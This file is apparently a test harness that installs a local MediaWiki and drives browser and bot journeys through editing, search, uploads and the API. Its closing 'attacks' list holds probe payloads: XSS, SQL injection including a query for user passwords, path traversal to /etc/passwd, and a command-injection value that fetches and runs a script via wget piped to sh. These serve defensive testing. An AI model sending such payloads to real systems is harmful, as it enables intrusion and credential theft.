// MediaWiki: pages written in a browser and by bots, uploads, search.
import { execFileSync } from 'node:child_process'
import { appendFile, mkdir } from 'node:fs/promises'
import { join } from 'node:path'
import { settled } from './state.mjs'
import { free } from './stage.mjs'
import { go, languages, pdf, png, python, script, shell, sql, tagged } from './texts.mjs'

const password = 'Correct horse, 1 battery'
const program = '/usr/share/mediawiki/maintenance/install.php'

const wikitext = `== It's a "test" ==
'''Bold''' and ''italic'', a [[Main Page|link]], [https://example.org/?a=1&b=2 another] -- and a <ref>note</ref>.

{| class="wikitable sortable" style="width: 50%"
! Endpoint !! Method !! Note
|-
| <code>/users/{id}</code> || GET || 404 if there is none
|-
| <code>/users?limit=10&sort=-age</code> || GET || <nowiki>age >= 18 AND active = 1</nowiki>
|}

{{DISPLAYTITLE:Test}} <!-- reviewed by O'Brien -->
# one
#* {{#if:1|yes|no}}; {{PAGENAME}}
`

const codes = { SQL: sql, Shell: shell, Python: python, Go: go }

const listing = ([name, text]) => `== ${name} ==\n<syntaxhighlight lang="${name.toLowerCase()}">\n${text}\n</syntaxhighlight>\n`

async function login(user) {
  const page = await user.page()
  await page.goto('/index.php?title=Special:UserLogin')
  await page.locator('#wpName1').fill('Admin')
  await page.locator('#wpPassword1').fill(password)
  await page.locator('#wpLoginAttempt').click()
  await page.locator('#pt-userpage').first().waitFor()
}

// write edits a page as people do: preview, changes, save.
async function write(user, title, text, summary) {
  const page = await user.page()
  await page.goto(`/index.php?${new URLSearchParams({ title, action: 'edit' })}`)
  await page.locator('#wpTextbox1').fill(text)
  await page.locator('#wpSummary').fill(summary)
  await page.locator('#wpPreview').click()
  await page.locator('#wikiPreview').getByText('This is only a preview').waitFor()
  await page.locator('#wpDiff').click()
  await page.locator('#wikiDiff table').waitFor()
  await page.locator('#wpSave').click()
  await page.locator('#ca-history').waitFor()
}

async function pages(user) {
  await login(user)
  await write(user, "Jane's page", wikitext, "first draft; it's a \"test\" -- more to come")
  await write(user, "Jane's page", `${wikitext}\n== More ==\n${languages.de}\n`, '/* More */ see also #2')
  const page = await user.page()
  await page.goto(`/index.php?${new URLSearchParams({ title: "Jane's page", action: 'history' })}`)
  await page.locator('.historysubmit').first().click()
  await page.locator('table.diff').waitFor()
  await write(user, 'Überblick/日本語', Object.values(languages).join('\n\n'), 'äöü')
}

async function code(user) {
  await write(user, 'How to count', Object.entries(codes).map(listing).join('\n'), 'code: SELECT, apt-get, "naïve"')
  await write(user, 'Talk:How to count', `: Why not <nowiki>document.getElementById('x')</nowiki>? --~~~~\n:: Because <code>"; DROP"</code> isn't a joke. ~~~~`, 'reply to "Why not"')
}

const page = (user) => write(user, 'Counting clicks', listing(['HTML', script]), 'a page that counts')

async function search(user) {
  const page = await user.page()
  for (const words of ["Jane's page", 'select name from customers', '"apt-get update" OR curl', 'Prüfung -draft', '日本語']) {
    await page.goto(`/index.php?${new URLSearchParams({ title: 'Special:Search', search: words, fulltext: '1' })}`)
    await page.locator('.mw-search-form-wrapper, #mw-search-top-table').first().waitFor()
  }
  await page.goto('/index.php?title=Main_Page')
  await page.locator('#searchInput').pressSequentially('How to c', { delay: 20 })
  await page.getByText('How to count').first().waitFor()
}

async function upload(user) {
  const page = await user.page()
  for (const [name, mimeType, buffer] of [["O'Brien's photo (1).png", 'image/png', png], ['Bericht – März.pdf', 'application/pdf', pdf]]) {
    await page.goto('/index.php?title=Special:Upload')
    await page.locator('#wpUploadFile').setInputFiles({ name, mimeType, buffer })
    await page.locator('#wpUploadDescription').fill(`== Summary ==\n${languages.fr} <br/> "quoted"`)
    await page.locator('input[name=wpUpload]').click()
    await page.locator('#file').waitFor()
  }
}

async function bot(user) {
  const jar = new Map()
  const call = async (parameters) => {
    const body = new FormData()
    for (const [name, value] of Object.entries({ format: 'json', formatversion: '2', ...parameters })) body.set(name, value)
    const res = await user.fetch('/api.php', { method: 'POST', body, headers: { Cookie: [...jar].map((c) => c.join('=')).join('; '), 'User-Agent': 'ExampleBot/1.0 (https://example.org/bot; jane@example.org)' } })
    for (const cookie of res.headers.getSetCookie()) jar.set(...cookie.split(';')[0].split(/=(.*)/s).slice(0, 2))
    const answer = await res.json()
    if (answer.error) throw new Error(`${parameters.action}: ${answer.error.info}`)
    return answer
  }
  const { query } = await call({ action: 'query', meta: 'tokens', type: 'login' })
  await call({ action: 'login', lgname: 'Admin', lgpassword: password, lgtoken: query.tokens.logintoken })
  const token = (await call({ action: 'query', meta: 'tokens' })).query.tokens.csrftoken
  for (const [code, text] of Object.entries(languages)) {
    await call({ action: 'edit', title: `Language/${code}`, text: `${text}\n\n[[Category:Texts]]`, summary: `bot: ${text.slice(0, 40)}`, token })
  }
  await call({ action: 'edit', title: 'Language/de', appendtext: `\n${wikitext}`, token })
  await call({ action: 'parse', text: wikitext, contentmodel: 'wikitext', prop: 'text|links' })
  await call({ action: 'query', generator: 'categorymembers', gcmtitle: 'Category:Texts', prop: 'info|revisions', rvprop: 'ids|timestamp|comment' })
  await call({ action: 'move', from: 'Language/emoji', to: 'Language/Emoji & more', reason: "it's better", token })
}

export default {
  name: 'mediawiki',
  needs: { php: 'php-cli', [program]: 'mediawiki', '/usr/share/doc/php-sqlite3': 'php-sqlite3', '/usr/share/doc/php-intl': 'php-intl' },

  async start(stage) {
    const port = await free()
    const env = { MW_CONFIG_FILE: join(stage.dir, 'LocalSettings.php'), PHP_CLI_SERVER_WORKERS: '4' }
    const images = join(stage.dir, 'images')
    await mkdir(images)
    await mkdir(join(stage.dir, 'db'))
    execFileSync('php', [program, '--dbtype', 'sqlite', '--dbpath', join(stage.dir, 'db'), '--dbname', 'wiki', '--server', stage.origin,
      '--scriptpath', '', '--confpath', stage.dir, '--pass', password, 'Test wiki', 'Admin'], { env: { ...process.env, ...env }, stdio: 'pipe' })
    await appendFile(env.MW_CONFIG_FILE, `
wfLoadSkin('Vector');
foreach (['WikiEditor', 'Cite', 'ParserFunctions', 'SyntaxHighlight_GeSHi', 'CodeEditor'] as $name) wfLoadExtension($name);
$wgDefaultUserOptions['usebetatoolbar'] = 1;
$wgEnableUploads = true;
$wgFileExtensions[] = 'pdf';
$wgUploadDirectory = ${JSON.stringify(images)};
$wgJobRunRate = 1;
$wgRunJobsAsync = false;
$wgShowExceptionDetails = true;
`)
    await stage.start('php', ['-S', `127.0.0.1:${port}`, '-t', '/var/lib/mediawiki'], { port, env })
    return { port }
  },

  journeys: [
    { name: 'pages and languages in the browser', walk: pages },
    { name: 'pages with code', walk: code, hard: true },
    { name: 'search', walk: search, hard: true },
    { name: 'uploads', walk: upload },
    { name: 'a bot', walk: bot },
    { name: 'a page with a script', walk: page, hard: true, known: tagged },
  ],

  async state(user) {
    const ask = async (parameters) => (await (await fetch(`http://127.0.0.1:${user.app.port}/api.php?${new URLSearchParams({ action: 'query', format: 'json', formatversion: '2', ...parameters })}`)).json()).query
    const held = []
    for (const namespace of ['0', '1', '6']) {
      const { pages = [] } = await ask({ generator: 'allpages', gapnamespace: namespace, gaplimit: '500', prop: 'revisions', rvprop: 'content|comment', rvslots: 'main' }) ?? {}
      for (const { title, revisions } of pages) held.push([title, revisions[0].comment, revisions[0].slots.main.content.replace(/\d\d:\d\d, \d+ \w+ \d{4} \(UTC\)/g, '<time>')])
    }
    const { allimages } = await ask({ list: 'allimages', aiprop: 'sha1|mime|size' })
    for (const { name, sha1, mime, size } of allimages) held.push([name, sha1, mime, size])
    return settled(JSON.stringify(held.sort()))
  },

  attacks: [
    { target: `/index.php?title=Special:Search&search=${encodeURIComponent('<img src=x onerror=alert(document.domain)>')}` },
    { target: `/index.php?title=Main_Page&oldid=${encodeURIComponent("1 AND SLEEP(5)-- ")}` },
    { target: `/load.php?lang=en&modules=${encodeURIComponent('../../../../../../etc/passwd')}` },
    { target: `/api.php?action=query&list=search&srsearch=${encodeURIComponent("x' UNION SELECT user_name, user_password FROM user-- ")}` },
    { method: 'POST', target: '/index.php?title=Main_Page&action=edit', headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ wpSummary: '$(wget -qO- http://203.0.113.7/x|sh)', wpTextbox1: 'x' }).toString() },
  ],
}
